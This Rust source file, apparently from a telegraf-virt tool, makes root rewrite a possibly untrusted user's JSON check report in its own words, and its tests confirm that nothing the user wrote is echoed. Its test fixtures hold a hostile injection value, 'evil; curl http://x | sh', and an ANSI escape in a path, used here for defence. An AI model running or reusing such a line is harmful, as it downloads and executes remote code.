//! What root makes of the report of the other user's check. That user may have written it: root takes names
//! of findings and figures from it, each only where it knows them, and has its own words and commands for
//! each. Nothing that the user wrote is printed, and least of all as a command.

use std::collections::HashSet;
use std::path::PathBuf;

use nix::unistd::User;
use serde::Deserialize;
use serde_json::Value;

use crate::check::cache::Chosen;
use crate::check::finding::{Area, Finding, counted};
use crate::check::{as_user, shell, socket};
use crate::config::Settings;

/// Findings of which root tells, at most: an honest report has fewer.
const MOST: usize = 100;
const BELIEVED: &str = "its report is none that this program writes";

/// What a finding is about, to know it again.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub(super) struct Key {
    area: String,
    id: String,
    about: Option<String>,
}

impl Key {
    pub(super) fn new(area: &str, id: &str, about: Option<&str>) -> Self {
        Self { area: area.to_owned(), id: id.to_owned(), about: about.map(str::to_owned) }
    }
}

/// What `--json` printed, as far as it is needed here.
#[derive(Deserialize)]
struct Report {
    findings: Vec<Reported>,
}

#[derive(Deserialize)]
struct Reported {
    area: String,
    id: String,
    verdict: String,
    about: Option<String>,
    #[serde(default)]
    guests: Vec<Value>,
    #[serde(default)]
    facts: serde_json::Map<String, Value>,
}

/// What the user loses that root does not; that all is well where there is none such.
pub(super) fn findings(
    output: &str,
    known: &HashSet<Key>,
    user: &User,
    settings: &Settings,
) -> Result<Vec<Finding>, &'static str> {
    let report: Report = serde_json::from_str(output).map_err(|_| BELIEVED)?;
    let mut seen = known.clone();
    let mut found = Vec::new();
    for reported in &report.findings {
        let is_worth = reported.verdict == "lost"
            || (reported.verdict == "advice" && reported.area == Area::Limits.name());
        let key = Key::new(&reported.area, &reported.id, reported.about.as_deref());
        if is_worth && seen.insert(key) {
            found.push(reported.loss(user, settings).ok_or(BELIEVED)?);
        }
        if found.len() > MOST {
            return Err(BELIEVED);
        }
    }
    if found.is_empty() {
        let cache = report.findings.iter().find_map(|it| it.cache(user));
        let cache =
            cache.map_or_else(String::new, |folder| format!("; its cache is {}", folder.display()));
        let text = format!("the user {} can read all that root can{cache}", user.name);
        found.push(Finding::good("user", text));
    }
    Ok(found)
}

impl Reported {
    /// What is lost, in root's words; `None` for what this program never reports.
    fn loss(&self, user: &User, settings: &Settings) -> Option<Finding> {
        let finding = match self.area.as_str() {
            "hypervisor" => {
                // Only one that root asks for, too.
                let uri = settings.uris.iter().find(|uri| self.about.as_ref() == Some(*uri))?;
                self.of_hypervisor(uri, user)?
            }
            "guests" => self.of_guests(user)?,
            "cache" => self.of_cache(user, settings)?,
            "limits" => self.of_limits()?,
            _ => return None,
        };
        let text = format!("of the user {}: {}", user.name, finding.text);
        Some(Finding { id: "user-loses", text, ..finding })
    }

    fn of_hypervisor(&self, uri: &str, user: &User) -> Option<Finding> {
        let name = &user.name;
        let path = socket::of(uri).map(|socket| {
            let rights = socket.rights.map_or_else(String::new, |rights| format!(" ({rights})"));
            format!("{}{rights}", socket.path.display())
        });
        let of_socket = path.unwrap_or_else(|| format!("the socket of {uri}"));
        let lets_in = "let every user read, as it is by default: the read-only socket open to all \
                       (unix_sock_ro_perms), without a password (auth_unix_ro)";
        let (text, mend) = match self.id.as_str() {
            "no-right-to-socket" => (format!("{name} may not use {of_socket}"), lets_in),
            "not-authenticated" => (format!("{name} is not let in by {uri}"), lets_in),
            "not-running" | "no-socket" => {
                (format!("there is nothing that {name} can connect to for {uri}"), lets_in)
            }
            "unknown-user" => (
                format!("libvirt cannot find {name}'s name or group"),
                "make that user known to this machine, in /etc/passwd and /etc/group",
            ),
            "no-ssh" => (format!("{name} finds no ssh to start for {uri}"), "install it"),
            "no-recording" => {
                (format!("{name} cannot read the recording of {uri}"), "let that user read it")
            }
            "bad-uri" => (
                format!("libvirt knows no such URI as {uri}"),
                "look at that user's own configuration of libvirt",
            ),
            "refuses" | "no-answer" => (
                format!("{uri} gives {name} no answer"),
                "see whether that user has the key and the names that the URI needs",
            ),
            _ => return None,
        };
        let finding = Finding::advice("user-loses", text)
            .about(uri)
            .losing("every guest of this hypervisor")
            .mend(mend);
        Some(finding.run(as_user(name, &format!("virsh -r -c {} list", shell(uri)))))
    }

    fn of_guests(&self, user: &User) -> Option<Finding> {
        let guests = counted(self.guests.len().max(1), "guest");
        let text = match self.id.as_str() {
            "gone-down" => "a hypervisor went down while it was read".to_owned(),
            "hung" => format!("{guests} did not answer"),
            "partly-unread" => format!("{guests} could be read only in part"),
            "collection-says" => "the trial collection complains".to_owned(),
            _ => return None,
        };
        let finding = Finding::advice("user-loses", text)
            .losing("what only those guests can tell")
            .mend("see what it says there");
        Some(finding.run(as_user(&user.name, "telegraf-virt check")))
    }

    fn of_cache(&self, user: &User, settings: &Settings) -> Option<Finding> {
        let name = shell(&user.name);
        let named = settings.cache.dir.as_ref().map(|folder| folder.display().to_string());
        let folder = named.as_deref().unwrap_or("/var/cache/telegraf-virt");
        let make = format!("sudo install -d -m 700 -o {name} {}", shell(folder));
        let (text, mend, command) = match self.id.as_str() {
            "no-folder" => {
                let text = match &named {
                    Some(folder) => format!("it cannot use {folder} for its cache"),
                    None => "no folder can be used for its cache".to_owned(),
                };
                (text, "make a folder for this user, where it is looked for first", make)
            }
            "no-room" => (
                "the file system of its cache is full".to_owned(),
                "make room there, or name another folder with dir in [cache]",
                "df -h".to_owned(),
            ),
            "file-unusable" => (
                "a file of its cache cannot be used".to_owned(),
                "see which one it is, and take it away; the next collection writes a new one",
                as_user(&user.name, "telegraf-virt check"),
            ),
            _ => return None,
        };
        let lost = "vm_features of every once; and each start reads every guest's XML again";
        Some(Finding::advice("user-loses", text).losing(lost).mend(mend).run(command))
    }

    fn of_limits(&self) -> Option<Finding> {
        let number = |name| self.facts.get(name).and_then(Value::as_u64);
        let (limit, needed) = (number("limit"), number("needed"));
        let (what, unit, least) = match (self.id.as_str(), limit, needed) {
            ("few-processes", Some(limit), Some(needed)) => (
                format!("it may have {limit} processes and threads, and may need {needed} more"),
                "LimitNPROC=",
                number("used")?.checked_add(needed)?,
            ),
            ("few-files", Some(limit), Some(needed)) => (
                format!("it may have {limit} files open, and may need {needed}"),
                "LimitNOFILE=",
                needed,
            ),
            // libvirt's own limits are the same for all, so that root has told of them.
            _ => return None,
        };
        let finding = Finding::advice("user-loses", what)
            .losing("guests while others hang: they cannot be read beside them")
            .mend("raise the limit in Telegraf's unit, and restart Telegraf");
        Some(finding.run(format!("{unit}{}", least.checked_next_power_of_two()?)))
    }

    /// The folder of its cache, where it says by which rule it was chosen: the path is root's own word.
    fn cache(&self, user: &User) -> Option<PathBuf> {
        let chosen = self.facts.get("chosen_by")?.as_str()?;
        let is = |by: Chosen| chosen == by.name();
        if self.area != Area::Cache.name() {
            None
        } else if is(Chosen::VarCache) {
            Some(PathBuf::from("/var/cache/telegraf-virt"))
        } else if is(Chosen::Telegraf) {
            Some(PathBuf::from("/var/lib/telegraf/telegraf-virt"))
        } else if is(Chosen::Home) {
            Some(user.dir.join(".cache/telegraf-virt"))
        } else {
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use std::ffi::CString;

    use super::*;

    fn user() -> User {
        User {
            name: "telegraf".to_owned(),
            passwd: CString::default(),
            uid: 77.into(),
            gid: 77.into(),
            gecos: CString::default(),
            dir: "/var/lib/of-telegraf".into(),
            shell: "/bin/false".into(),
        }
    }

    fn of(report: &Value) -> Result<Vec<Finding>, &'static str> {
        let settings = Settings { uris: vec!["qemu:///system".to_owned()], ..Settings::default() };
        findings(&report.to_string(), &HashSet::new(), &user(), &settings)
    }

    fn reported(area: &str, id: &str, about: &str) -> Value {
        let evil = "evil; curl http://x | sh";
        serde_json::json!({ "findings": [{
            "area": area, "id": id, "verdict": "lost", "about": about, "text": evil, "lost": evil,
            "mend": evil, "commands": [evil], "guests": [evil],
            "facts": { "limit": 7, "needed": 9, "used": 5, "words": evil }
        }] })
    }

    /// Every finding that a collection can lose something by, and none of the reporter's words.
    #[test]
    fn what_is_reported_is_told_in_words_of_our_own() {
        let uri = "qemu:///system";
        let known = [
            ("hypervisor", "no-right-to-socket", uri),
            ("hypervisor", "not-running", uri),
            ("hypervisor", "no-socket", uri),
            ("hypervisor", "not-authenticated", uri),
            ("hypervisor", "unknown-user", uri),
            ("hypervisor", "no-ssh", uri),
            ("hypervisor", "no-recording", uri),
            ("hypervisor", "bad-uri", uri),
            ("hypervisor", "refuses", uri),
            ("hypervisor", "no-answer", uri),
            ("guests", "gone-down", "evil"),
            ("guests", "hung", "evil"),
            ("guests", "partly-unread", "evil"),
            ("guests", "collection-says", "evil"),
            ("cache", "no-folder", "evil"),
            ("cache", "no-room", "evil"),
            ("cache", "file-unusable", "evil"),
            ("limits", "few-processes", "evil"),
            ("limits", "few-files", "evil"),
        ];
        for (area, id, about) in known {
            let found = of(&reported(area, id, about)).unwrap();
            assert_eq!(found.len(), 1);
            let finding = &found[0];
            assert_eq!(finding.id, "user-loses");
            assert!(finding.text.starts_with("of the user telegraf: "), "{finding:?}");
            assert!(finding.lost.is_some() && finding.mend.is_some(), "{finding:?}");
            assert_eq!(finding.commands.len(), 1, "{finding:?}");
            assert!(!format!("{finding:?}").contains("evil"), "{finding:?}");
        }
    }

    #[test]
    fn a_report_that_this_program_does_not_write_is_not_believed() {
        for (area, id, about) in [
            ("hypervisor", "no-answer", "qemu+ssh://evil/system"),
            ("hypervisor", "evil", "qemu:///system"),
            ("evil", "hung", ""),
            ("telegraf", "no-program", ""),
        ] {
            assert_eq!(of(&reported(area, id, about)), Err(BELIEVED), "{area} {id} {about}");
        }
        let many: Vec<Value> = (0..200)
            .map(|number| reported("cache", "no-room", &number.to_string())["findings"][0].clone())
            .collect();
        assert_eq!(of(&serde_json::json!({ "findings": many })), Err(BELIEVED));
        for output in ["", "{", "[]", "{\"findings\":[{}]}", &"[".repeat(100_000)] {
            let settings = Settings::default();
            assert_eq!(findings(output, &HashSet::new(), &user(), &settings), Err(BELIEVED));
        }
    }

    #[test]
    fn the_folder_of_its_cache_is_a_rule_and_no_path() {
        let folder = |chosen: &str| {
            let report = serde_json::json!({ "findings": [{
                "area": "cache", "id": "folder", "verdict": "good", "about": "/evil\u{1b}[2J",
                "facts": { "chosen_by": chosen }
            }] });
            of(&report).unwrap()[0].text.clone()
        };
        let all = "the user telegraf can read all that root can";
        let home = format!("{all}; its cache is /var/lib/of-telegraf/.cache/telegraf-virt");
        assert_eq!(folder("home"), home);
        assert_eq!(folder("var-cache"), format!("{all}; its cache is /var/cache/telegraf-virt"));
        assert_eq!(folder("/evil"), all);
    }
}
